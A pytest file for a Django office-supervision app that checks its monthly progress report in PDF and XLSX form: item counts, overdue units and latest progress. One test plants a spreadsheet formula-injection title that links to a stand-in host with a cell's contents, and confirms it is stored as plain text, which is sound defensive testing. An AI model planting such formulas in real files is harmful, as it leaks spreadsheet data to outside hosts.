"""进展报告: the office's monthly progress report — items in play during the month by status and colour,
the overdue units, each item's latest progress and the counts — as PDF and XLSX, and stored once a month."""

import io
import re
from pathlib import Path
from typing import Any

import pytest
import time_machine
from openpyxl import load_workbook
from pypdf import PdfReader

from domain.supervision import services as sup
from domain.supervision import tasks
from domain.supervision.models import MonthlyReport
from domain.supervision.reports import progress_report, progress_report_pdf, progress_report_xlsx

from . import builders as b

pytestmark = pytest.mark.django_db
JUNE = b.at(6, 1).date()


def pdf_text(pdf: bytes) -> str:
    return "\n".join(page.extract_text() or "" for page in PdfReader(io.BytesIO(pdf)).pages)


def june(w: b.World) -> dict[str, Any]:
    """June 2026 for the office: “数据目录编制” (education bureau alone, urgent: due 8 June) passes its due
    time unfinished; “公共数据开放” (market regulation lead, civil affairs co-unit) runs on, with two progress
    reports in June and one in July; “视频监控整合” is finished by both units in June. “五月旧账” closed in
    May and “七月新项” was registered in July: neither is June's business."""
    with time_machine.travel(b.at(5, 4), tick=False):
        old = b.running_item(w, b.at(5, 4), title="五月旧账", source="leader_instruction", urgency="urgent")
        for unit in old.units.all():
            b.finish(unit, b.at(5, 6), key=f"old-{unit.pk}")
        sup.item_close(item_id=old.pk)
    with time_machine.travel(b.at(6, 1, 9), tick=False):
        late = b.running_item(
            w,
            b.at(6, 1),
            title="数据目录编制",
            source="leader_instruction",
            urgency="urgent",
            lead_department_id=w.outsider_department.pk,
            co_department_ids=[],
        )
        running = b.running_item(w, b.at(6, 1), title="公共数据开放", source="document")
        done = b.running_item(w, b.at(6, 1), title="视频监控整合", source="document")
    lead = b.unit_of(running, w.lead)
    for day, text, percent in ((3, "已完成材料收集", 40), (10, "开放清单完成初稿", 70)):
        with time_machine.travel(b.at(6, day), tick=False):
            sup.progress_record(unit_id=lead.pk, text=text, percent=percent, idempotency_key=f"r{day}")
    with time_machine.travel(b.at(7, 2), tick=False):
        sup.progress_record(unit_id=lead.pk, text="七月进展", percent=90, idempotency_key="r-july")
        b.item(w, title="七月新项")
    for unit in done.units.all():
        b.finish(unit, b.at(6, 12), key=f"done-{unit.pk}")
    with time_machine.travel(b.at(6, 12), tick=False):
        sup.item_close(item_id=done.pk)
    return {"late": late, "running": running, "done": done}


def test_the_pdf_names_the_items_the_overdue_unit_and_the_counts() -> None:
    """Converted back to text, the June PDF lists the three items in play (not May's closed one nor July's
    new one), names the education bureau under 逾期事项 (17 working days late by the test calendar, due 8 June and
    counted to 1 July 00:00) and not
    the units that kept time, shows the latest June progress (not July's), and prints the counts: 3 items,
    1 overdue, 3 registered in June, 1 closed in June."""
    w = b.world()
    june(w)
    data = progress_report(office_id=w.office.pk, month=JUNE)
    text = pdf_text(progress_report_pdf(data))
    flat = re.sub(r"\s+", "", text)

    for title in ("数据目录编制", "公共数据开放", "视频监控整合"):
        assert title in flat
    assert "五月旧账" not in flat and "七月新项" not in flat
    overdue_section = flat.split("逾期事项", 2)[2].split("事项进展")[0]
    assert "西湖区教育局" in overdue_section and "数据目录编制" in overdue_section
    assert "西湖区市场监管局" not in overdue_section and "西湖区民政局" not in overdue_section
    assert "开放清单完成初稿" in flat and "七月进展" not in flat
    assert "事项总数3" in flat and "逾期事项1" in flat and "本月新立项3" in flat and "本月办结1" in flat
    assert [(o.title, o.unit, o.overdue_working_days) for o in data.overdue] == [("数据目录编制", "西湖区教育局", 17.0)]


def test_the_report_counts_items_by_status_and_colour_with_each_items_latest_progress() -> None:
    """At the end of June: one item in progress and red (past due), one in progress and green, one completed
    (no colour); the running item's latest progress is the one of 10 June at 70 %."""
    w = b.world()
    june(w)
    data = progress_report(office_id=w.office.pk, month=JUNE)
    statuses = {c.key: c.count for c in data.by_status}
    colours = {c.key: c.count for c in data.by_colour}
    assert (statuses["in_progress"], statuses["completed"], statuses["registered"]) == (2, 1, 0)
    assert colours == {"green": 1, "blue": 0, "yellow": 0, "red": 1}
    lines = {line.title: line for line in data.items}
    running = lines["公共数据开放"]
    assert (running.latest_unit, running.latest_percent, running.latest_text) == (
        "西湖区市场监管局",
        70,
        "开放清单完成初稿",
    )
    assert (running.lead_unit, running.units) == ("西湖区市场监管局", "西湖区市场监管局、西湖区民政局")
    assert lines["视频监控整合"].latest_text == "已完成"
    assert lines["数据目录编制"].latest_at is None and lines["数据目录编制"].colour == "red"
    assert data.period_label == "2026年6月" and data.as_of == b.at(7, 1, 0)


def test_the_month_under_way_is_reported_up_to_now() -> None:
    """Asked on 5 June with no month, the report is June's so far: the urgent item is not yet late."""
    w = b.world()
    with time_machine.travel(b.at(6, 1, 9), tick=False):
        b.running_item(w, b.at(6, 1), title="数据目录编制", source="leader_instruction", urgency="urgent")
    with time_machine.travel(b.at(6, 5), tick=False):
        data = progress_report(office_id=w.office.pk, month=None)
    assert (data.month, data.as_of, data.total, data.overdue_items) == (JUNE, b.at(6, 5), 1, 0)
    assert [c.count for c in data.by_colour if c.key == "blue"] == [1], "due within 3 working days"


def test_the_workbook_has_the_counts_the_items_and_the_overdue_units_and_never_a_formula() -> None:
    """Three sheets; an item title that looks like a formula is written as text, not run by Excel."""
    w = b.world()
    june(w)
    with time_machine.travel(b.at(6, 2), tick=False):
        b.running_item(w, b.at(6, 2), title='=HYPERLINK("http://x.example/?"&A1,"点此")', source="document")
    book = load_workbook(io.BytesIO(progress_report_xlsx(progress_report(office_id=w.office.pk, month=JUNE))))
    assert book.sheetnames == ["汇总", "事项进展", "逾期事项"]
    summary = {row[0]: row[1] for row in book["汇总"].iter_rows(min_row=2, values_only=True) if row and row[0]}
    assert (summary["事项总数"], summary["逾期事项"], summary["本月办结"]) == (4, 1, 1)
    assert (summary["办理中"], summary["已办结"], summary["红色逾期"]) == (3, 1, 1)
    items = book["事项进展"]
    titles = {row[0].value: row for row in items.iter_rows(min_row=2)}
    formula_like = titles['=HYPERLINK("http://x.example/?"&A1,"点此")'][0]
    assert formula_like.data_type == "s"
    assert titles["公共数据开放"][8].value == "开放清单完成初稿" and titles["公共数据开放"][7].value == 70
    overdue = list(book["逾期事项"].iter_rows(min_row=2, values_only=True))
    assert overdue == [("数据目录编制", "西湖区教育局", "牵头单位", "2026-06-08 18:00", 17)]


def test_the_monthly_task_stores_last_months_report_once(settings: Any, tmp_path: Path) -> None:
    """On 1 July the task stores June's report for the office (XLSX and PDF files, with the counts); run
    again the same day it stores nothing more."""
    settings.MEDIA_ROOT = str(tmp_path)
    w = b.world()
    june(w)
    with time_machine.travel(b.at(7, 1, 1), tick=False):
        assert tasks.monthly_reports() == 1
        assert tasks.monthly_reports() == 0
    report = MonthlyReport.objects.get()
    assert (report.office, report.month) == (w.office, JUNE)
    assert (report.counts["total"], report.counts["overdue_items"], report.counts["status_completed"]) == (3, 1, 1)
    assert "数据目录编制" in re.sub(r"\s+", "", pdf_text(Path(report.pdf.path).read_bytes()))
    workbook = load_workbook(report.xlsx.path)
    assert workbook["逾期事项"]["B2"].value == "西湖区教育局"
